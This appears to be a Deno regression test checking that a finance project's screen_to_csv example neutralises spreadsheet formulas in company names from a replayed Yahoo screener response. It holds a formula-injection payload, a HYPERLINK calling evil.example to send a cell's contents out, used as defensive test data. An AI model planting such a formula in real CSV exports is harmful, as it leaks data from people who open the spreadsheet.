/**
 * examples/screen_to_csv.ts wrote a provider's company names and the errors it met with its own
 * CSV quoting, without the formula guard of `--output csv`: a screener name such as
 * `=HYPERLINK(...)` ran in a spreadsheet. Replays a project-written Yahoo screener answer whose
 * company name is a formula, and a symbol with no filings (its error in the sheet).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { FIXTURES, ROOT } from "../_helpers.ts";

const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Acme")';

function screen() {
  const quote = (symbol: string, shortName: string) => ({
    symbol,
    shortName,
    regularMarketPrice: 41.37,
    regularMarketChangePercent: 7.87,
    marketCap: 3310000000,
    regularMarketVolume: 1250000,
    currency: "USD",
    fullExchangeName: "NYSE",
    regularMarketTime: Date.parse("2024-04-30T20:00:00Z") / 1000,
  });
  return {
    finance: {
      result: [{
        id: "day_gainers",
        title: "Day Gainers",
        description: "Stocks up the most today",
        count: 1,
        total: 1,
        quotes: [quote("ACME", HOSTILE)],
      }],
      error: null,
    },
  };
}

/** Yahoo's cookie and crumb handshake and a day_gainers screen of one hostile row. */
async function yahooCassette(): Promise<string> {
  const dir = await Deno.makeTempDir({ prefix: "finance-views2-csv-" });
  const index = {
    version: 1,
    recorded_at: "2024-05-01T12:00:00Z",
    entries: [{
      method: "GET",
      url: "https://finance.yahoo.com/quote/AAPL",
      status: 200,
      headers: {
        "content-type": "text/html",
        "set-cookie": "A3=redacted; Max-Age=31536000; Domain=.yahoo.com; Path=/; Secure",
      },
      body: "<html><body>consent not needed</body></html>",
    }, {
      method: "GET",
      url: "https://query1.finance.yahoo.com/v1/test/getcrumb",
      status: 200,
      headers: { "content-type": "text/plain" },
      body: "recordedcrumb",
    }, {
      method: "GET",
      url:
        "https://query2.finance.yahoo.com/v1/finance/screener/predefined/saved?lang=en-US&region=US&scrIds=day_gainers&count=1",
      status: 200,
      headers: { "content-type": "application/json" },
      body: JSON.stringify(screen()),
    }],
  };
  await Deno.writeTextFile(join(dir, "index.json"), JSON.stringify(index));
  return dir;
}

Deno.test("example screen_to_csv: a company name that is a formula is written as text", async () => {
  const yahoo = await yahooCassette();
  const out = join(yahoo, "screen.csv");
  const run = await new Deno.Command(Deno.execPath(), {
    args: ["run", "-A", "examples/screen_to_csv.ts", "screen=day_gainers", "count=1", `out=${out}`],
    cwd: ROOT,
    env: {
      FINANCE_CACHE: "off",
      FINANCE_REPLAY: `${yahoo}:${join(FIXTURES, "filings", "cassette")}`,
      FINANCE_FILINGS_USER_AGENT: "finance-tests test@example.com",
    },
    stdout: "piped",
    stderr: "piped",
  }).output();
  assert.ok(run.success, new TextDecoder().decode(run.stderr));
  const text = await Deno.readTextFile(out);
  const [header, row] = text.trim().split("\n");
  assert.match(header, /^symbol,name,price,market_cap,period,revenue,/);
  // quoted for its comma and quotes, and led by ' so no spreadsheet runs it
  assert.ok(
    row.startsWith(`ACME,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Acme"")",41.37,`),
    row,
  );
  assert.ok(!/(^|,)"?=/.test(row), row);
  // the figures stay figures
  assert.match(row, /,1200000000,/);
});
